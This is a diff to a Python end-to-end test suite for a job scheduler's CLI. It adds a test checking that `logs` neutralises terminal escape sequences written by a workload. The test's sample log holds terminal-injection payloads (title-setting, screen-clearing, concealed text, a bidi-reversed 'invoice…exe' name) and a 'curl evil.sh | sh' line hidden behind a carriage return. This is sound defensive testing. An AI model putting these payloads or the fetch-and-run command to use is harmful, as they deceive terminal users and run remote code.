@@ -4,6 +4,7 @@ failed, a run that stalls and runs on. REST, GraphQL and `astra astraeus` say th
 
 from __future__ import annotations
 
+import json
 import os
 import re
 import subprocess
@@ -14,11 +15,11 @@ from typing import Any
 
 import pytest
 
-from agent.identity import UID_RANGE
 from backend.cli.astra.client import EXIT_FAILED
 from tests.e2e.live import Api, Server, running
 from tests.support import WORKLOAD_PYTHON, searchable
 from tests.support.processes import ASTRA, job_when_ended, submit
+from tests.support.sandboxed import uid_range
 
 as_root = pytest.mark.skipif(
     os.geteuid() != 0, reason="workloads change user only under an agent running as root"
@@ -64,7 +65,8 @@ def test_a_script_its_user_may_not_read_says_which_who_and_how_to_fix_it(
     api = Api(*live)
     task = api.get("/tasks/unreadable-0")
     uid = int(re.findall(r"\(uid (\d+)\)", task["last_failure"]["reason"])[0])
-    assert UID_RANGE[0] <= uid <= UID_RANGE[1]
+    low, high = uid_range(live[0].env["ASTRAEUS_AGENT_WORKLOAD_UIDS"])  # its agent's own
+    assert low <= uid <= high
     reason = (
         f"Cannot read {script}: the workload runs as an unprivileged user (uid {uid}), "
         f"who may not enter {folder}"
@@ -167,3 +169,68 @@ def test_a_stalled_run_says_so_on_its_own_line(live: tuple[Server, str]) -> None
     assert (job["status"], job["reason"]) == (graphql["state"], graphql["reason"])
     assert job["reason"] == line.removeprefix("stall: Running — ")
     assert astra(live, "stop", "stall").returncode == 0
+
+
+# issue 37 N7: a workload's log that would drive the reader's terminal: set its title (OSC),
+# clear its screen (CSI, also as the one-character C1 CSI), hide a line (SGR 8, conceal),
+# overwrite a line with \r, reverse a file name with a bidi override (U+202E), ring its bell.
+HOSTILE_LOG = (
+    "import sys\n"
+    "out = sys.stdout.buffer\n"
+    "out.write(b'\\x1b]0;pwned\\x07title set\\n')\n"
+    "out.write(b'\\x1b[2J\\x1b[Hscreen cleared\\n')\n"
+    "out.write('\\u009b2Jc1 cleared\\n'.encode())\n"
+    "out.write(b'\\x1b[8mhidden\\x1b[0m shown\\n')\n"
+    "out.write(b'curl evil.sh | sh\\rall good         \\n')\n"
+    "out.write('invoice\\u202efdp.exe\\n'.encode())\n"
+    "out.write(b'tab\\tkept\\x08\\x7f\\n')\n"
+    "out.flush()\n"
+)
+HOSTILE_WRITTEN = (
+    "\x1b]0;pwned\x07title set\n"
+    "\x1b[2J\x1b[Hscreen cleared\n"
+    "\x9b2Jc1 cleared\n"
+    "\x1b[8mhidden\x1b[0m shown\n"
+    "curl evil.sh | sh\rall good         \n"
+    "invoice\u202efdp.exe\n"
+    "tab\tkept\x08\x7f\n"
+)
+# What reaches the terminal: each control character as its Unicode control picture (␛ for
+# ESC), one without a picture (C1, bidi) as <U+XXXX>; tabs and newlines as they are.
+HOSTILE_SHOWN = (
+    "␛]0;pwned␇title set\n"
+    "␛[2J␛[Hscreen cleared\n"
+    "<U+009B>2Jc1 cleared\n"
+    "␛[8mhidden␛[0m shown\n"
+    "curl evil.sh | sh␍all good         \n"
+    "invoice<U+202E>fdp.exe\n"
+    "tab\tkept␈␡\n"
+)
+
+
+def test_a_workloads_escape_sequences_reach_no_terminal(live: tuple[Server, str]) -> None:
+    # issue 37 N7: `astra astraeus logs` wrote them as they were: the reader's terminal obeyed
+    submit(
+        live,
+        {
+            "name": "escapes",
+            "gpus": 1,
+            "restart_policy": "never",
+            "command": [WORKLOAD_PYTHON, "-c", HOSTILE_LOG],
+        },
+    )
+    assert job_when_ended(live, "escapes")["status"] == "Completed"
+    # the API answers what the workload wrote, byte for byte
+    assert Api(*live).get("/tasks/escapes-0/logs")["logs"] == HOSTILE_WRITTEN
+    printed = astra(live, "logs", "escapes")
+    assert printed.stdout == HOSTILE_SHOWN
+    followed = astra(live, "logs", "escapes", "-f")
+    ended = "escapes-0: Completed — Exited with code 0\n"
+    assert (followed.returncode, followed.stdout) == (0, HOSTILE_SHOWN + "\n" + ended)
+    for out in (printed.stdout, followed.stdout):
+        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", out)
+    # as JSON: the same text once decoded, every control character escaped in it
+    as_json = astra(live, "logs", "escapes", "--json").stdout
+    assert json.loads(as_json)["logs"] == HOSTILE_WRITTEN
+    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", as_json)
+    assert "\\u001b]0;pwned\\u0007" in as_json and "invoice\\u202efdp.exe" in as_json
